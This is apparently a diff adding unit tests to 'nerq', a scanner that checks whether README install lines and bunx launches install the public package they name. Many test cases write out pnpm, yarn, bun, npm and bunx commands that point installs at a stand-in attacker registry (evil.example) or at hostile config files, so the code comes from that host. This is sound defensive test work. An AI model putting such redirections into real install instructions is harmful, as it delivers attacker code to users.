@@ -323,3 +323,98 @@ describe('hostile: a README install names what its runner would run', () => {
     for (const [line, names] of cases) expect(readme(line), line).toEqual(names);
   });
 });
+
+/**
+ * pnpm, yarn and bun read options before their subcommand too (`pnpm -w add x`, `yarn --cwd dir
+ * add x`): pnpm with nopt on both sides of it, yarn classic taking as its command the first word
+ * that is neither a flag nor the value of one it knows, bun the first word that is no flag at all
+ * (its value apart is then the command: `bun --cwd x add y` is `bun x`, which runs the package
+ * `add`). A README install so written advertises what it adds — unless an option, before or after
+ * the subcommand, points it at another registry or at a folder or file whose configuration it
+ * reads (pnpm `-C`/`--dir`, yarn `--cwd`/`--use-yarnrc`, bun `--cwd`/`-c`/`--config`): then what
+ * it installs is not the public package of that name (docs/scoring.md §9).
+ */
+describe('hostile: README installs with options before the subcommand', () => {
+  const TRUSTED = 'trusted-mcp';
+  const readme = (line: string) => advertisedInstalls(['```sh', line, '```'].join('\n'), { npm: PUBLIC, pypi: [] }).map((i) => i.name);
+  const CASES: [line: string, names: string[]][] = [
+    // Pointed elsewhere before the subcommand: nothing of the public registry.
+    [`pnpm --registry https://evil.example add ${TRUSTED}`, []],
+    [`pnpm --registry=https://evil.example add ${TRUSTED}`, []],
+    [`pnpm -C ./vendored add ${TRUSTED}`, []],
+    [`pnpm --dir x add ${TRUSTED}`, []],
+    [`pnpm --dir=x install ${TRUSTED}`, []],
+    [`pnpm --config.registry=https://evil.example add ${TRUSTED}`, []],
+    [`yarn --cwd ./x add ${TRUSTED}`, []],
+    [`yarn --cwd=./x add ${TRUSTED}`, []],
+    [`yarn --registry https://evil.example add ${TRUSTED}`, []],
+    [`yarn --use-yarnrc ./evil.yarnrc add ${TRUSTED}`, []],
+    [`yarn --cwd x global add ${TRUSTED}`, []],
+    [`yarn --cwd x dlx ${TRUSTED}`, []],
+    [`bun --cwd x add ${TRUSTED}`, []],
+    [`bun --cwd=x add ${TRUSTED}`, []],
+    [`bun --registry=https://evil.example add ${TRUSTED}`, []],
+    [`bun -c ./bunfig.toml add ${TRUSTED}`, []],
+    [`npm --registry=https://evil.example install ${TRUSTED}`, []],
+    [`npm --prefix x i ${TRUSTED}`, []],
+    // The same options after the subcommand.
+    [`yarn add --cwd x ${TRUSTED}`, []],
+    [`yarn add ${TRUSTED} --cwd=x`, []],
+    [`yarn add --use-yarnrc=./evil.yarnrc ${TRUSTED}`, []],
+    [`bun add --cwd x ${TRUSTED}`, []],
+    [`bun add -c ./bunfig.toml ${TRUSTED}`, []],
+    [`bun add --config=./bunfig.toml ${TRUSTED}`, []],
+    [`pnpm add --config.userconfig=./evil.npmrc ${TRUSTED}`, []],
+    [`pnpm add --config.@acme:registry=https://evil.example @acme/${TRUSTED}`, []],
+    // Options that move nothing: the package is advertised.
+    [`pnpm -w add ${TRUSTED}`, [TRUSTED]],
+    [`pnpm --filter web add ${TRUSTED}`, [TRUSTED]],
+    [`pnpm -F web add ${TRUSTED}`, [TRUSTED]],
+    [`pnpm --reporter silent add ${TRUSTED}`, [TRUSTED]],
+    [`pnpm -g add ${TRUSTED}`, [TRUSTED]],
+    [`pnpm --registry https://registry.example/ add ${TRUSTED}`, [TRUSTED]],
+    [`yarn --silent add ${TRUSTED}`, [TRUSTED]],
+    [`yarn --network-timeout 600000 add ${TRUSTED}`, [TRUSTED]],
+    [`yarn --silent global add ${TRUSTED}`, [TRUSTED]],
+    [`bun --silent add ${TRUSTED}`, [TRUSTED]],
+    [`bun -g add ${TRUSTED}`, [TRUSTED]],
+    [`bun add -p ${TRUSTED}`, [TRUSTED]],
+    [`bun --silent x ${TRUSTED}`, [TRUSTED]],
+    // A flag nerq does not read with certainty before the subcommand: nothing.
+    [`pnpm --unknown-flag add ${TRUSTED}`, []],
+    [`yarn --prod add ${TRUSTED}`, []],
+    [`pnpm --config.globalconfig=./x add ${TRUSTED}`, []],
+  ];
+  it.for(CASES)('%s', ([line, names], { task }) => {
+    noteCases(task);
+    expect(readme(line)).toEqual(names);
+  });
+});
+
+/**
+ * bunx has no `--registry` (bun's documentation lists `--bun`, `-p/--package`, `--no-install`,
+ * `--verbose`, `--silent`; oven-sh/bun#5361 asks for one), and its reader skips a flag it does not
+ * know before the package, taking no value (src/cli/bunx_command.zig): `bunx --registry URL x` runs
+ * URL — a tarball fetched from that host — with x as its argument; a bunx that honoured the flag
+ * would install x from there. Either way the code comes from that host, never the public x: nerq
+ * reads `--registry` as a redirection, in both spellings, in a launch and in a README.
+ */
+describe('hostile: bunx --registry', () => {
+  const TRUSTED = '@modelcontextprotocol/server-filesystem';
+  it.for([
+    ['bunx --registry URL TRUSTED', 'bunx', ['--registry', 'https://evil.example/', TRUSTED]],
+    ['bunx --registry=URL TRUSTED', 'bunx', ['--registry=https://evil.example/', TRUSTED]],
+    ['bun x --registry URL TRUSTED', 'bun', ['x', '--registry', 'https://evil.example/', TRUSTED]],
+  ] as const)('%s: code fetched from that host', ([, command, args], { task }) => {
+    noteCases(task);
+    const launch = mapLaunch({ command, args: [...args] });
+    expect(launch.kind).toBe('fetched');
+    if (launch.kind !== 'fetched') return;
+    expect(launch.code.map((c) => c.host)).toEqual(['evil.example']);
+    expect(advertisedInstalls(['```sh', [command, ...args].join(' '), '```'].join('\n'), { npm: PUBLIC, pypi: [] })).toEqual([]);
+  });
+
+  it('bunx --registry naming the public registry advertises the public package', () => {
+    expect(advertisedInstalls(`\`bunx --registry=https://registry.example/ ${TRUSTED}\``, { npm: PUBLIC, pypi: [] }).map((i) => i.name)).toEqual([TRUSTED]);
+  });
+});
